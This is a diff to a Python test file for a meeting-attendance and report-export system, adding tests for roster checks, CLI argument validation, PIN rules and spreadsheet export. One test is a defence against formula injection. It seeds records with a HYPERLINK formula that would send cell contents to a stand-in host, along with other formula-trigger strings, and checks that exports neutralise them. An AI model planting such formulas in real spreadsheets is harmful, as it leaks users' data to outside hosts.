@@ -13,7 +13,7 @@ import pytest
 from openpyxl import load_workbook
 from sqlalchemy import func, select
 
-from core.attendance import sign_in
+from core.attendance import SignInError, sign_in
 from core.audit import recent
 from core.models import FaceTemplate, Meeting, Member
 from robot_assistant import face_cli
@@ -32,7 +32,9 @@ def test_report_counts_rates_and_exports(sqlite_db, tmp_path: Path):
         by = {m.number: m for m in s.scalars(select(Member))}
         sign_in(s, first, by["M1"], method="face", terminal_id="k1", now=T0 - timedelta(minutes=5))
         sign_in(s, first, by["M2"], method="pin", terminal_id="k1", now=T0 + timedelta(minutes=12))  # late
-        sign_in(s, first, by["M4"], method="face", terminal_id="k1", now=T0)  # not on the roster: 列席
+        with pytest.raises(SignInError, match="不在本次会议名单"):  # a 支委会 takes no walk-ins
+            sign_in(s, first, by["M4"], method="face", terminal_id="k1", now=T0)
+        sign_in(s, first, by["M4"], method="admin", terminal_id="k1", now=T0, admin="admin:li")  # 列席
         sign_in(s, second, by["M3"], method="face", terminal_id="k1", now=T0 + timedelta(days=7))
         report = build_report(s, TZ)
     m1, m2 = report.meetings
@@ -140,3 +142,71 @@ def test_commands_fit_the_launcher_table():
     for name, (handler, help_text) in face_cli.COMMANDS.items():
         assert callable(handler) and help_text and name in ("enroll", "members", "face-check", "meetings", "report")
     assert os.path.basename(face_cli.__file__) == "face_cli.py"
+
+
+def test_formula_cells_are_text_in_xlsx_and_escaped_in_csv(sqlite_db, tmp_path: Path):
+    evil = ['=HYPERLINK("http://x.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+    with sqlite_db.session() as s:
+        seed_members(s, ["m1", "m2"])
+        first = add_meeting(s, roster=["M1", "M2"])
+        first.title_zh = evil[0]
+        by = {m.number: m for m in s.scalars(select(Member))}
+        by["M1"].name, by["M2"].name = evil[1], evil[2]
+        s.commit()
+        sign_in(s, first, by["M1"], method="face", terminal_id="@k1", now=T0)
+        report = build_report(s, TZ, now=T0 + timedelta(hours=2))
+    xlsx = export_xlsx(report, tmp_path / "r.xlsx")
+    wb = load_workbook(xlsx)
+    formulas = [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
+    details = wb["签到明细"]
+    head = [c.value for c in details[1]]
+    assert details.cell(2, head.index("会议名称") + 1).value == evil[0]  # the text itself, kept as text
+    signed = details.cell(2, head.index("签到时间") + 1).value
+    assert signed.year == 2026 and signed.hour == 14  # a real date-time in local time
+    for path in export_csv(report, tmp_path / "r.csv"):
+        for row in csv.reader(path.open(encoding="utf-8-sig")):
+            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
+    rows = list(csv.reader((tmp_path / "r.csv").open(encoding="utf-8-sig")))
+    assert rows[1][rows[0].index("会议名称")] == "'" + evil[0]
+
+
+def test_report_refuses_unknown_branch_meeting_inverted_dates_and_file_type(data_dir: Path, tmp_path: Path,
+                                                                           capsys):
+    assert cli("report", "--branch", "B99") == 2
+    assert "unknown branch" in capsys.readouterr().err
+    assert cli("report", "--meeting", "99999") == 2
+    assert "unknown meeting" in capsys.readouterr().err
+    assert cli("report", "--from", "2026-12-01", "--to", "2026-11-01") == 2
+    assert "before the start" in capsys.readouterr().err
+    assert cli("report", "--out", str(tmp_path / "r.xls")) == 2
+    assert ".csv or .xlsx" in capsys.readouterr().err and not (tmp_path / "r.xls").exists()
+    assert cli("report", "--branch", "B01") == 0
+
+
+def test_member_pin_set_and_reset_from_the_command_line(data_dir: Path, capsys):
+    from core.db import Database
+    from core.secrets import MEMBER_PIN, Lockout, verify_pin
+
+    assert cli("members", "set-pin", "M0101", "--pin", "１３５７９２", "--actor", "admin:li") == 0  # full-width: normalised
+    assert cli("members", "set-pin", "M0101", "--pin", "1234") == 2
+    assert "6 to 12 digits" in capsys.readouterr().err
+    assert cli("members", "set-pin", "M0101", "--pin", "12345a") == 2
+    assert "digits 0-9 only" in capsys.readouterr().err
+    assert cli("members", "set-pin", "M0101", "--pin", "123456") == 2
+    assert "too easy" in capsys.readouterr().err
+    assert cli("members", "set-pin", "M9999", "--pin", "135792") == 1
+    db = Database(f"sqlite:///{data_dir / 'dangjian.db'}")
+    with db.session() as s:
+        member = s.scalars(select(Member).where(Member.number == "M0101")).one()
+        assert verify_pin("135792", member.pin_hash) and verify_pin("１３５７９２", member.pin_hash)
+        assert recent(s, "member.pin_set")[0].actor == "admin:li"
+        Lockout("pin:M0101", MEMBER_PIN).fail(s, T0)
+    db.dispose()
+    assert cli("members", "reset-pin", "M0101") == 0
+    db = Database(f"sqlite:///{data_dir / 'dangjian.db'}")
+    with db.session() as s:
+        assert s.scalars(select(Member).where(Member.number == "M0101")).one().pin_hash is None
+        assert Lockout("pin:M0101", MEMBER_PIN).state(s, T0).failures == 0
+        assert recent(s, "member.pin_reset")
+    db.dispose()
